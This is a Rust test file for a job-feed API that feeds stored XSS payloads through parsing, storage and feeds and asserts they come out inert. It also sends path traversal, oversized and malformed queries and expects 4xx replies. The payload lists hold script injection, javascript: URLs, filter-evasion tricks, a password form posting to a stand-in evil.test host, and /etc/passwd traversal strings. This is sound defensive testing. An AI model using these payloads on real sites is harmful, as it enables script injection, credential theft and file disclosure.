//! Hostile input through the whole read path: postings carrying XSS payloads are parsed by
//! `parse_document` (a Greenhouse board whose `content` is entity-encoded HTML, and a page
//! with JSON-LD whose description is raw HTML), stored by the ingest rules in a `MemoryStore`,
//! and read back through the router: every HTML field of `/jobs?fields=full`, `/jobs/{id}` and
//! the three feeds must be inert when parsed as HTML. Then abusive requests (oversized or
//! invalid query strings, repeated parameters, huge limits, path traversal) must be 4xx
//! problems that read the store a bounded number of times (counted by the store's `usage`).
//! Plain-text fields carrying tag-shaped evasions and XML-forbidden characters come out as
//! text, and the XML feeds stay well-formed to a strict parser.

#![cfg(feature = "api")]

use std::sync::Arc;

use axum::Router;
use axum::body::{Body, Bytes};
use axum::http::{Request, StatusCode, header};
use chrono::{DateTime, TimeZone, Utc};
use http_body_util::BodyExt;
use jobfeed::JobPosting;
use jobfeed::api::{ApiConfig, ApiState, MAX_QUERY_BYTES, PROBLEM_CONTENT_TYPE, router};
use jobfeed::app::ingest::{Incoming, IngestConfig, ingest_postings};
use jobfeed::extract::ExtractKind;
use jobfeed::parse::{DEFAULT_MAX_DOCUMENT_BYTES, ParseOptions, parse_document};
use jobfeed::store::PostingReader;
use jobfeed::store::memory::MemoryStore;
use quick_xml::events::Event;
use scraper::Html;
use serde_json::{Value, json};
use tower::ServiceExt;

/// Description payloads: each tries a different way to run script or restyle the page.
const PAYLOADS: &[&str] = &[
    "<p>Intro</p><script>alert(1)</script>",
    "<img src=x onerror=alert(1)><p>Image</p>",
    r#"<a href="javascript:alert(1)">apply</a>"#,
    r#"<a href="JaVaScRiPt&colon;alert(1)">apply</a>"#,
    r#"<a href=" &#106;avascript:alert(1)">apply</a>"#,
    r#"<svg onload=alert(1)><circle r="1"/></svg><p>Vector</p>"#,
    r#"<svg><script>alert(1)</script></svg>"#,
    r#"<iframe src="https://evil.test/"></iframe><p>Frame</p>"#,
    "<style>body{display:none}</style><p>Styled</p>",
    r#"<p style="position:fixed;top:0;background:url(javascript:alert(1))">Overlay</p>"#,
    r#"<div style="behavior:url(x.htc)" onclick="alert(1)">Div</div>"#,
    r#"<form action="https://evil.test/steal"><input name="password"><button>Go</button></form>"#,
    r#"<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>"#,
    r#"<object data="data:text/html,<script>alert(1)</script>"></object><embed src="x.swf">"#,
    r#"<math><mi xlink:href="javascript:alert(1)">x</mi></math>"#,
    r#"<p>Double-encoded: &lt;script&gt;alert(1)&lt;/script&gt;</p>"#,
    "<!--<script>alert(1)</script>--><p>Comment</p>",
    r#"<table background="javascript:alert(1)"><tr><td onmouseover="alert(1)">Cell</td></tr></table>"#,
    r#"<base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=javascript:alert(1)"><link rel="stylesheet" href="https://evil.test/x.css">"#,
];

/// Payloads placed in titles and company names (plain-text fields).
const TEXT_PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>Rust Engineer",
    "Engineer <img src=x onerror=alert(1)>",
    "]]><script>alert(1)</script>",
];

/// Elements that must never reach a client.
const FORBIDDEN_ELEMENTS: &[&str] = &[
    "script", "iframe", "svg", "style", "object", "embed", "form", "input", "button", "math",
    "base", "meta", "link", "img", "frame", "frameset", "applet",
];

/// Whether an XML element name in a feed is a payload that became markup (`link` is a real
/// RSS and Atom element, so it is not counted).
fn forbidden_in_xml(tag: &str) -> bool {
    tag != "link" && FORBIDDEN_ELEMENTS.contains(&tag)
}

fn t0() -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2026, 7, 20, 12, 0, 0).unwrap()
}

fn parse(body: &[u8], url: &str, source: &str) -> Vec<JobPosting> {
    let url = url::Url::parse(url).unwrap();
    let options = ParseOptions {
        kind: ExtractKind::Auto,
        url: Some(&url),
        source: Some(source),
        company_override: None,
        fetched_at: t0(),
        max_bytes: DEFAULT_MAX_DOCUMENT_BYTES,
    };
    parse_document(body, &options).unwrap().postings
}

/// HTML entity-encoded once, as Greenhouse sends `content`.
fn entity_encode(html: &str) -> String {
    html.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
}

/// A Greenhouse board with one job per description payload, plus jobs whose title or
/// company carries a text payload.
fn greenhouse_board() -> Vec<u8> {
    let mut jobs: Vec<Value> = PAYLOADS
        .iter()
        .enumerate()
        .map(|(i, payload)| {
            json!({
                "id": 1000 + i,
                "absolute_url": format!("https://job-boards.greenhouse.io/evil/jobs/{}", 1000 + i),
                "title": format!("Payload engineer {i}"),
                "company_name": "Evil Corp",
                "location": {"name": "Remote"},
                "updated_at": "2026-07-19T10:00:00Z",
                "first_published": "2026-07-19T10:00:00Z",
                "content": entity_encode(payload),
            })
        })
        .collect();
    for (i, payload) in TEXT_PAYLOADS.iter().enumerate() {
        jobs.push(json!({
            "id": 2000 + i,
            "absolute_url": format!("https://job-boards.greenhouse.io/evil/jobs/{}", 2000 + i),
            "title": payload,
            "company_name": format!("{payload} Inc"),
            "location": {"name": "Remote"},
            "updated_at": "2026-07-19T10:00:00Z",
            "first_published": "2026-07-19T10:00:00Z",
            "content": entity_encode("<p>Plain description</p>"),
        }));
    }
    serde_json::to_vec(&json!({ "jobs": jobs })).unwrap()
}

/// A career page with one JSON-LD `JobPosting` whose description holds every payload.
fn jsonld_page() -> Vec<u8> {
    let posting = json!({
        "@context": "https://schema.org",
        "@type": "JobPosting",
        "title": "<svg onload=alert(1)>Platform Engineer",
        "description": PAYLOADS.concat(),
        "datePosted": "2026-07-19",
        "hiringOrganization": {"@type": "Organization", "name": "<b onmouseover=alert(1)>Evil</b> GmbH"},
        "jobLocation": {"@type": "Place", "address": {"@type": "PostalAddress", "addressCountry": "DE"}},
    });
    // `</` inside the JSON would end the script element early; JSON allows escaping `/`.
    let json = serde_json::to_string(&posting)
        .unwrap()
        .replace("</", "<\\/");
    format!(
        "<!doctype html><html><head><title>Job</title>\
         <script type=\"application/ld+json\">{json}</script></head><body></body></html>"
    )
    .into_bytes()
}

struct Reply {
    status: StatusCode,
    content_type: String,
    body: Bytes,
}

impl Reply {
    fn json(&self) -> Value {
        serde_json::from_slice(&self.body).unwrap()
    }

    fn text(&self) -> String {
        String::from_utf8(self.body.to_vec()).unwrap()
    }
}

struct Api {
    router: Router,
    store: Arc<MemoryStore>,
}

impl Api {
    /// A router over a store filled with the hostile postings by the ingest rules.
    async fn hostile() -> Api {
        let store = Arc::new(MemoryStore::new());
        let mut postings = parse(
            &greenhouse_board(),
            "https://boards-api.greenhouse.io/v1/boards/evil/jobs?content=true",
            "greenhouse-evil",
        );
        postings.extend(parse(
            &jsonld_page(),
            "https://careers.evil.test/jobs/platform",
            "evil-careers",
        ));
        assert_eq!(postings.len(), PAYLOADS.len() + TEXT_PAYLOADS.len() + 1);
        let incoming = postings.into_iter().map(Incoming::from).collect();
        let report = ingest_postings(store.as_ref(), incoming, t0(), &IngestConfig::default())
            .await
            .unwrap();
        assert_eq!(
            report.new as usize,
            PAYLOADS.len() + TEXT_PAYLOADS.len() + 1
        );
        let router = router(ApiState {
            postings: store.clone(),
            sources: store.clone(),
            registry: store.clone(),
            config: ApiConfig::default(),
        });
        Api { router, store }
    }

    async fn get(&self, uri: &str) -> Reply {
        let request = Request::get(uri)
            .header(header::HOST, "api.test")
            .body(Body::empty())
            .unwrap();
        let response = self.router.clone().oneshot(request).await.unwrap();
        let status = response.status();
        let content_type = response
            .headers()
            .get(header::CONTENT_TYPE)
            .map(|v| v.to_str().unwrap().to_owned())
            .unwrap_or_default();
        let body = response.into_body().collect().await.unwrap().to_bytes();
        Reply {
            status,
            content_type,
            body,
        }
    }

    /// The response to `uri` and how many store requests it made.
    async fn get_counting(&self, uri: &str) -> (Reply, u64) {
        let before = self.store.usage();
        let reply = self.get(uri).await;
        (reply, self.store.usage().since(&before).requests)
    }
}

/// Whether a URL (as a browser would read it: entity-decoded by the parser, trimmed, with
/// tabs and newlines dropped, any case) uses a scheme that runs or embeds content.
fn dangerous_url(url: &str) -> bool {
    let squeezed: String = url
        .trim()
        .chars()
        .filter(|c| !c.is_whitespace() && !c.is_control())
        .collect::<String>()
        .to_ascii_lowercase();
    ["javascript:", "data:", "vbscript:"]
        .iter()
        .any(|scheme| squeezed.starts_with(scheme))
}

/// Asserts that `html`, parsed as a browser would, has no executable or restyling markup.
fn assert_inert(html: &str, context: &str) {
    let fragment = Html::parse_fragment(html);
    for node in fragment.tree.nodes() {
        let Some(element) = node.value().as_element() else {
            continue;
        };
        let name = element.name();
        assert!(
            !FORBIDDEN_ELEMENTS.contains(&name),
            "{context}: <{name}> survived in {html}"
        );
        for (attribute, value) in element.attrs() {
            let attribute = attribute.to_ascii_lowercase();
            assert!(
                !attribute.starts_with("on"),
                "{context}: {attribute} on <{name}> in {html}"
            );
            assert_ne!(attribute, "style", "{context}: style on <{name}> in {html}");
            assert!(
                !dangerous_url(value),
                "{context}: {attribute}={value:?} on <{name}> in {html}"
            );
        }
    }
}

/// Every text and CDATA value of elements named `name` (any namespace prefix) in a feed,
/// unescaped: what a feed reader hands to its HTML sanitizer.
fn xml_texts(xml: &str, name: &str) -> Vec<String> {
    let mut reader = quick_xml::Reader::from_str(xml);
    let mut open: Vec<String> = Vec::new();
    let mut found = Vec::new();
    loop {
        match reader.read_event().unwrap() {
            Event::Start(e) => {
                let tag = e.local_name().as_ref().to_owned();
                assert!(
                    !forbidden_in_xml(&tag),
                    "a payload became an XML element <{tag}>"
                );
                open.push(tag);
                if open.last().map(String::as_str) == Some(name) {
                    found.push(String::new());
                }
            }
            Event::Empty(e) => {
                let tag = e.local_name().as_ref().to_owned();
                assert!(
                    !forbidden_in_xml(&tag),
                    "a payload became an XML element <{tag}/>"
                );
            }
            Event::End(_) => {
                open.pop();
            }
            Event::Text(t) if open.last().map(String::as_str) == Some(name) => {
                found.last_mut().unwrap().push_str(&t.xml10_content());
            }
            Event::CData(c) if open.last().map(String::as_str) == Some(name) => {
                found.last_mut().unwrap().push_str(&c.xml10_content());
            }
            Event::GeneralRef(r) if open.last().map(String::as_str) == Some(name) => {
                let entity = r.xml10_content();
                let resolved = match r.resolve_char_ref().unwrap() {
                    Some(c) => c.to_string(),
                    None => quick_xml::escape::resolve_predefined_entity(&entity)
                        .unwrap_or_else(|| panic!("an undefined XML entity &{entity};"))
                        .to_owned(),
                };
                found.last_mut().unwrap().push_str(&resolved);
            }
            Event::Eof => break,
            _ => {}
        }
    }
    found
}

/// Plain-text payloads that a stripper which drops comments, `</>`, `<?x>`, `<!x>` or CDATA
/// without a separator would join into a tag, and characters XML 1.0 forbids.
const TEXT_EVASIONS: &[&str] = &[
    "<<!---->img src=x onerror=alert(1)>",
    "<</>script>alert(1)<</>/script>",
    "<<?x>svg onload=alert(1)>",
    "<<!x>iframe src=javascript:alert(1)>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "\u{1b}[31m",
    "\u{b}\u{c}\u{8}\u{1}\u{0}\u{fffe}\u{ffff}",
];

/// Whether `text` holds anything tag-shaped: `<` then a letter, `/`, `!` or `?`.
fn tag_shaped(text: &str) -> bool {
    text.match_indices('<').any(|(at, _)| {
        text[at + 1..]
            .chars()
            .next()
            .is_some_and(|c| c.is_ascii_alphabetic() || "/!?".contains(c))
    })
}

#[tokio::test]
async fn hostile_text_fields_come_out_as_text_and_every_feed_stays_well_formed() {
    let jobs: Vec<Value> = TEXT_EVASIONS
        .iter()
        .enumerate()
        .map(|(i, evasion)| {
            json!({
                "id": 3000 + i,
                "absolute_url": format!("https://job-boards.greenhouse.io/evil/jobs/{}", 3000 + i),
                "title": format!("Backend Engineer {evasion}"),
                "company_name": format!("Evil {evasion} Corp"),
                "location": {"name": format!("Berlin {evasion}")},
                "departments": [{"name": format!("Platform {evasion}")}],
                "updated_at": "2026-07-19T10:00:00Z",
                "content": entity_encode(&format!("<p>About {evasion} us</p>")),
            })
        })
        .collect();
    let board = serde_json::to_vec(&json!({ "jobs": jobs })).unwrap();
    let postings = parse(
        &board,
        "https://boards-api.greenhouse.io/v1/boards/evil/jobs?content=true",
        "greenhouse-evil",
    );
    assert_eq!(postings.len(), TEXT_EVASIONS.len());
    let store = Arc::new(MemoryStore::new());
    let incoming = postings.into_iter().map(Incoming::from).collect();
    ingest_postings(store.as_ref(), incoming, t0(), &IngestConfig::default())
        .await
        .unwrap();
    let api = Api {
        router: router(ApiState {
            postings: store.clone(),
            sources: store.clone(),
            registry: store.clone(),
            config: ApiConfig::default(),
        }),
        store,
    };

    let list = api.get("/jobs?fields=full&limit=100").await.json();
    let items = list["items"].as_array().unwrap();
    assert_eq!(items.len(), TEXT_EVASIONS.len());
    for item in items {
        let mut texts = vec![
            item["title"].as_str().unwrap().to_owned(),
            item["company"]["name"].as_str().unwrap().to_owned(),
            item["department"].as_str().unwrap_or_default().to_owned(),
        ];
        for place in item["locations"].as_array().unwrap() {
            texts.push(place.to_string());
        }
        for text in texts {
            assert!(!tag_shaped(&text), "{text:?}");
            assert!(
                !text
                    .chars()
                    .any(|c| c < ' ' || c == '\u{fffe}' || c == '\u{ffff}'),
                "{text:?}"
            );
        }
        assert!(
            item["title"]
                .as_str()
                .unwrap()
                .starts_with("Backend Engineer")
        );
    }
    for path in ["/feed.rss", "/feed.atom"] {
        let reply = api.get(path).await;
        assert_eq!(reply.status, StatusCode::OK, "{path}");
        let xml = reply.text();
        let document = roxmltree::Document::parse(&xml)
            .unwrap_or_else(|error| panic!("{path} is not well-formed XML: {error}"));
        let titles: Vec<&str> = document
            .descendants()
            .filter(|node| node.has_tag_name("title"))
            .filter_map(|node| node.text())
            .collect();
        assert!(titles.len() > TEXT_EVASIONS.len(), "{path}: {titles:?}");
        assert!(titles.iter().all(|t| !tag_shaped(t)), "{path}: {titles:?}");
    }
    let feed = api.get("/feed.json").await;
    assert_eq!(feed.status, StatusCode::OK);
    assert_eq!(
        feed.json()["items"].as_array().unwrap().len(),
        TEXT_EVASIONS.len()
    );
}

#[tokio::test]
async fn stored_payloads_come_out_of_the_json_api_inert() {
    let api = Api::hostile().await;
    let list = api.get("/jobs?fields=full&limit=100").await;
    assert_eq!(list.status, StatusCode::OK);
    let items = list.json()["items"].as_array().unwrap().clone();
    assert_eq!(items.len(), PAYLOADS.len() + TEXT_PAYLOADS.len() + 1);
    for item in &items {
        let id = item["id"].as_str().unwrap();
        assert_inert(item["description_html"].as_str().unwrap(), id);

        let detail = api.get(&format!("/jobs/{id}")).await;
        assert_eq!(detail.status, StatusCode::OK, "{id}");
        let detail = detail.json();
        assert_eq!(detail["description_html"], item["description_html"]);
        assert_inert(detail["description_html"].as_str().unwrap(), id);
    }
    // The sanitizer keeps the harmless parts: the text after each payload and safe links.
    let all: String = items
        .iter()
        .map(|i| i["description_html"].as_str().unwrap())
        .collect();
    for kept in [
        "Intro", "Image", "Vector", "Frame", "Styled", "Overlay", "Cell",
    ] {
        assert!(all.contains(kept), "{kept} was dropped: {all}");
    }
    // Escaped text stays escaped text: it is shown, never parsed into an element.
    assert!(all.contains("Double-encoded: &lt;script&gt;alert(1)&lt;/script&gt;"));
}

#[tokio::test]
async fn stored_payloads_come_out_of_the_feeds_escaped_and_inert() {
    let api = Api::hostile().await;
    for (path, content_elements) in [
        ("/feed.rss", &["description", "encoded"][..]),
        ("/feed.atom", &["content", "summary"][..]),
    ] {
        let reply = api.get(path).await;
        assert_eq!(reply.status, StatusCode::OK, "{path}");
        let xml = reply.text();
        let mut descriptions = 0;
        for element in content_elements {
            for html in xml_texts(&xml, element) {
                assert_inert(&html, path);
                descriptions += 1;
            }
        }
        assert!(descriptions >= PAYLOADS.len(), "{path}: {descriptions}");
        // Titles and company names are plain text: in the XML their markup characters are
        // escaped (never raw, never a CDATA that a `]]>` could end), so a reader shows them.
        for tag in ["<script", "<img", "<svg", "<b "] {
            assert!(!xml.contains(tag), "{path}: a raw {tag} in {xml}");
        }
        // Markup never survives into a title: the normalizer keeps only the words.
        let titles = xml_texts(&xml, "title");
        for payload in TEXT_PAYLOADS {
            let words = jobfeed::normalize::sanitize::strip_markup(payload);
            assert!(
                titles.iter().any(|t| t.starts_with(words.as_ref())),
                "{path}: {words} is not the title in {titles:?}"
            );
        }
        assert!(titles.iter().all(|t| !t.contains('<')), "{titles:?}");
    }
    let reply = api.get("/feed.json").await;
    assert_eq!(reply.status, StatusCode::OK);
    let feed = reply.json();
    let items = feed["items"].as_array().unwrap();
    assert!(items.len() >= PAYLOADS.len());
    for item in items {
        assert_inert(item["content_html"].as_str().unwrap(), "/feed.json");
    }
}

/// Asserts a 4xx problem that made at most `max_store_requests` store requests.
fn assert_problem(reply: &Reply, requests: u64, status: StatusCode, max_store_requests: u64) {
    assert_eq!(reply.status, status, "{}", reply.text());
    assert_eq!(reply.content_type, PROBLEM_CONTENT_TYPE);
    assert_eq!(reply.json()["status"], status.as_u16());
    assert!(requests <= max_store_requests, "{requests} store requests");
}

#[tokio::test]
async fn oversized_and_repeated_query_strings_are_refused_without_reading_the_store() {
    let api = Api::hostile().await;
    let long_q = format!("/jobs?q={}", "a".repeat(MAX_QUERY_BYTES + 1));
    let (reply, requests) = api.get_counting(&long_q).await;
    assert_problem(&reply, requests, StatusCode::URI_TOO_LONG, 0);

    // Thousands of empty `skill` values (each alone is allowed) and of real ones.
    for skill in ["", "rust"] {
        let many = format!("skill={skill}&").repeat(5000);
        for path in ["/jobs", "/feed.rss"] {
            let (reply, requests) = api.get_counting(&format!("{path}?{many}")).await;
            assert_problem(&reply, requests, StatusCode::URI_TOO_LONG, 0);
        }
    }
    // Under the byte limit, too many skills are still a 400 naming the parameter.
    let (reply, requests) = api
        .get_counting(&format!("/jobs?{}", "skill=rust&".repeat(100)))
        .await;
    assert_problem(&reply, requests, StatusCode::BAD_REQUEST, 0);
    assert_eq!(reply.json()["parameter"], "skill");
    // A non-repeatable parameter given twice.
    let (reply, requests) = api.get_counting("/jobs?limit=5&limit=6").await;
    assert_problem(&reply, requests, StatusCode::BAD_REQUEST, 0);
}

#[tokio::test]
async fn invalid_utf8_and_huge_limits_are_400_problems_naming_the_parameter() {
    let api = Api::hostile().await;
    for (uri, parameter) in [
        ("/jobs?q=%ff%fe", Some("q")),
        ("/jobs?company=caf%C3", Some("company")),
        ("/feed.atom?skill=%c0%af", Some("skill")),
        ("/jobs?%ff%fe=1", None),
        ("/jobs?limit=18446744073709551616", Some("limit")),
        ("/jobs?limit=1000000", Some("limit")),
        ("/jobs?limit=-1", Some("limit")),
        ("/jobs?cursor=..%2F..%2Fetc%2Fpasswd", Some("cursor")),
    ] {
        let (reply, requests) = api.get_counting(uri).await;
        // A tampered cursor is only found out by the store that decodes it: one request.
        assert_problem(&reply, requests, StatusCode::BAD_REQUEST, 1);
        assert_eq!(
            reply.json()["parameter"].as_str(),
            parameter,
            "{uri}: {}",
            reply.text()
        );
    }
}

#[tokio::test]
async fn path_traversal_and_absurd_ids_are_404_problems_without_a_store_read() {
    let api = Api::hostile().await;
    let long_id = format!("/jobs/{}", "a".repeat(10_000));
    for uri in [
        "/jobs/..%2F..%2Fetc%2Fpasswd",
        "/jobs/%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "/jobs/../../etc/passwd",
        "/jobs/abc%00def",
        "/jobs/%ff%fe",
        "/jobs/a%20b",
        long_id.as_str(),
    ] {
        let (reply, requests) = api.get_counting(uri).await;
        assert_problem(&reply, requests, StatusCode::NOT_FOUND, 0);
    }
}

#[test]
fn the_inertness_check_flags_each_payload_left_unsanitized() {
    // Inert even raw: escaped text, and a comment (browsers do not run what it holds).
    let inert_raw = ["Double-encoded", "<!--"];
    for payload in PAYLOADS {
        let flagged = std::panic::catch_unwind(|| assert_inert(payload, "raw")).is_err();
        let expected = !inert_raw.iter().any(|marker| payload.contains(marker));
        assert_eq!(flagged, expected, "{payload}");
    }
}
